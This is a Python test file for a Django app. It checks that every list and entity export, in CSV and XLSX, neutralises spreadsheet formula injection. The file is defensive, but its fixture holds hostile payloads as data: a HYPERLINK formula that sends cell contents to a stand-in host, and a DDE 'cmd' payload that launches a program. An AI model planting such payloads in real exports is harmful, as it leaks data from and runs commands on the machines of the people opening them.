"""Every export answers a file a spreadsheet opens, with no formula an attacker could plant.

The list pages are found in the URL conf (every `ListPage` that offers an export), the entity
exports in the import registry, so that a new page or entity is tested without being listed
here. The data holds text that a spreadsheet would run as a formula in every app's exported
fields (OWASP's CSV injection rule).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from gmassist.core.choices import AuditAction
from gmassist.core.imports import entity_spec, export_entity, registered_entities
from gmassist.core.permissions import SYSTEM
from gmassist.core.services import audit_record, proposal_reject
from gmassist.core.views_lib import ListPage
from gmassist.lib.tabular import is_formula_like
from gmassist.org.models import Employee, Position
from gmassist.talent.models import RiskModelRun, RiskScore

HYPERLINK = '=HYPERLINK("http://x/?"&B2,"Open")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"
MINUS = "-2+3"


def _export_pages() -> list[tuple[str, type[ListPage]]]:
    """(path, page class) of every list page in the URL conf that offers an export."""
    found: list[tuple[str, type[ListPage]]] = []

    def walk(patterns, prefix: str) -> None:
        for entry in patterns:
            if isinstance(entry, URLResolver):
                walk(entry.url_patterns, prefix + str(entry.pattern))
            elif isinstance(entry, URLPattern):
                view_class = getattr(entry.callback, "view_class", None)
                if (
                    isinstance(view_class, type)
                    and issubclass(view_class, ListPage)
                    and view_class.export_permission is not None
                ):
                    found.append(("/" + prefix + str(entry.pattern), view_class))

    walk(get_resolver().url_patterns, "")
    return sorted(found, key=lambda item: item[0])


EXPORT_PAGES = _export_pages()


def test_the_url_conf_has_the_export_pages_we_know_of():
    # the generated tests below are only as good as the discovery: it finds the known ones
    names = {page.export_name for _path, page in EXPORT_PAGES}
    assert {"employees", "decisions", "audit-log", "feedback", "customers"} <= names


@pytest.fixture
def hostile(cast):
    """Formula text in a field that each app exports, and an audit entry with a dict."""
    from gmassist.customers.tests.factories import make_book
    from gmassist.decisions import services as decision_services
    from gmassist.decisions.services import Audience
    from gmassist.org.services import pay_change_propose
    from gmassist.voice.feedback.tests.conftest import make_feedback
    from gmassist.voice.recruiting.tests.factories import make_requisition

    emma = Employee.objects.get(employee_no="E004")
    emma.full_name = HYPERLINK
    emma.email = "-x@example.com"
    emma.save()
    make_feedback(department=cast.sales, subject=HYPERLINK, body=SUM)
    decision_services.decision_create(
        by=cast.gm,
        title=SUM,
        summary=MINUS,
        rationale=CMD,
        effective_date=dt.date(2026, 3, 2),
        audience=Audience(departments=(cast.sales,)),
    )
    book = make_book(cast)
    book["C1"].name = CMD
    book["C1"].region = MINUS
    book["C1"].save()
    position = Position.objects.create(
        code="TRAP", title=HYPERLINK, job_family=CMD, grade=1, currency="CNY"
    )
    make_requisition(cast, position=position)
    for number in ("E005", "E006"):
        proposal = pay_change_propose(
            employee=Employee.objects.get(employee_no=number),
            new_base_pay=Decimal("105000"),
            effective_date=dt.date(2026, 1, 1),
            rationale=CMD,
            by=cast.assistant,
        )
    proposal_reject(proposal=proposal, by=cast.gm, comment=MINUS)  # one in the history
    # an archived document whose title is a formula (the documents list and the archive)
    from gmassist.office.documents import services as document_services

    document = document_services.document_create(
        by=cast.assistant, title=HYPERLINK, approvers=[cast.gm], text=SUM
    )
    document_services.document_decide(document=document, by=cast.gm, decision="approve")
    # a delegated task whose title and description are formulas (the tasks list)
    from gmassist.office.tasks.services import task_create

    task_create(by=cast.gm, title=HYPERLINK, owner=cast.head, description=SUM)
    audit_record(
        actor=cast.gm,
        action=AuditAction.UPDATE,
        target_type="org.employee",
        target_id="4",
        target_repr=HYPERLINK,
        changes={"full_name": [MINUS, HYPERLINK], "nested": {"pay": Decimal("1.5")}},
    )
    # a leaving-risk score whose person's name and reason start with formula signs
    run = RiskModelRun.objects.create(
        as_of=dt.date(2026, 10, 31), version="leaving-1", backtest_auc=0.7, scored=1
    )
    RiskScore.objects.create(
        run=run,
        employee=Employee.objects.get(employee_no="E004"),
        as_of=run.as_of,
        probability=0.4,
        reasons=[{"feature": CMD, "value": 1.0, "effect": 0.5}],
        model_version="leaving-1",
        model_auc=0.7,
    )
    return cast


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _xlsx_rows(content: bytes):
    return [list(row) for row in load_workbook(io.BytesIO(content)).active.iter_rows()]


def assert_csv_is_safe(rows: list[list[str]]) -> None:
    unsafe = [cell for row in rows for cell in row if is_formula_like(cell)]
    assert unsafe == []


def assert_xlsx_is_safe(rows) -> None:
    formulas = [cell.value for row in rows for cell in row if cell.data_type == "f"]
    unquoted = [
        cell.value
        for row in rows
        for cell in row
        if isinstance(cell.value, str) and is_formula_like(cell.value) and not cell.quotePrefix
    ]
    assert (formulas, unquoted) == ([], [])


def _export_header(page) -> list[str]:
    """What a list page's export starts with: its import entity's columns, or its own."""
    if page.export_entity:
        return [column.name for column in entity_spec(page.export_entity).columns]
    return [str(column.header) for column in page.export_columns]


@pytest.mark.parametrize(("path", "page"), EXPORT_PAGES, ids=[p for p, _ in EXPORT_PAGES])
def test_every_list_export_is_a_csv_with_its_header_and_no_live_formula(
    client, hostile, path, page
):
    client.force_login(hostile.gm)
    response = client.get(path, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].endswith('.csv"')
    rows = _csv_rows(response.content)
    assert rows[0] == _export_header(page)
    assert len(rows) > 1, f"{path}: the fixture should give this export a row to check"
    assert {len(row) for row in rows} == {len(rows[0])}
    assert_csv_is_safe(rows)


@pytest.mark.parametrize(("path", "page"), EXPORT_PAGES, ids=[p for p, _ in EXPORT_PAGES])
def test_every_list_export_is_an_xlsx_with_its_header_and_no_live_formula(
    client, hostile, path, page
):
    client.force_login(hostile.gm)
    response = client.get(path, {"export": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    rows = _xlsx_rows(response.content)
    assert [cell.value for cell in rows[0]] == _export_header(page)
    assert len(rows) > 1, f"{path}: the fixture should give this export a row to check"
    assert_xlsx_is_safe(rows)


def test_the_feedback_subject_is_text_in_the_gms_xlsx_export(client, hostile):
    # the reported attack: an anonymous subject became a live HYPERLINK in the GM's export
    client.force_login(hostile.gm)
    rows = _xlsx_rows(client.get("/voice/feedback/", {"export": "xlsx"}).content)
    subject = [c.value for c in rows[0]].index("subject")
    cell = rows[1][subject]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HYPERLINK, "s", True)


def test_a_name_starting_with_a_formula_sign_gets_an_apostrophe_in_csv(client, hostile):
    client.force_login(hostile.gm)
    rows = _csv_rows(client.get("/org/employees/", {"export": "csv"}).content)
    header, emma = rows[0], next(row for row in rows if row[0] == "E004")
    assert [emma[header.index("full_name")], emma[header.index("email")]] == [
        "'" + HYPERLINK,
        "'-x@example.com",
    ]


def test_the_audit_export_writes_changes_as_json(client, hostile):
    client.force_login(hostile.gm)
    rows = _csv_rows(client.get("/audit/", {"export": "csv"}).content)
    header = rows[0]
    entry = next(row for row in rows if row[header.index("target")] == "'" + HYPERLINK)
    assert entry[header.index("changes")] == (
        '{"full_name": ["-2+3", "=HYPERLINK(\\"http://x/?\\"&B2,\\"Open\\")"], '
        '"nested": {"pay": "1.5"}}'
    )


@pytest.mark.parametrize("entity", registered_entities())
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_entity_export_is_safe(hostile, entity, fmt):
    out = io.BytesIO()
    count = export_entity(entity=entity, fmt=fmt, out=out, user=hostile.gm)
    if fmt == "csv":
        rows = _csv_rows(out.getvalue())
        assert len(rows) == count + 1
        assert_csv_is_safe(rows)
    else:
        rows = _xlsx_rows(out.getvalue())
        assert len(rows) == count + 1
        assert_xlsx_is_safe(rows)


def test_an_exported_employee_file_imports_back_unchanged(hostile, tmp_path):
    from gmassist.core.imports import import_file

    # (a comma would make the name "Last, First", which the import turns round)
    Employee.objects.filter(employee_no="E004").update(full_name="@Emma =1+1")
    path = tmp_path / "employees.csv"
    export_entity(entity="employees", fmt="csv", out=path, user=SYSTEM)
    report = import_file(entity="employees", path=path, mapping=None, by=SYSTEM, dry_run=True)
    assert report.errors == []
    assert report.counts["employees"] == {"created": 0, "updated": 0, "unchanged": 6}
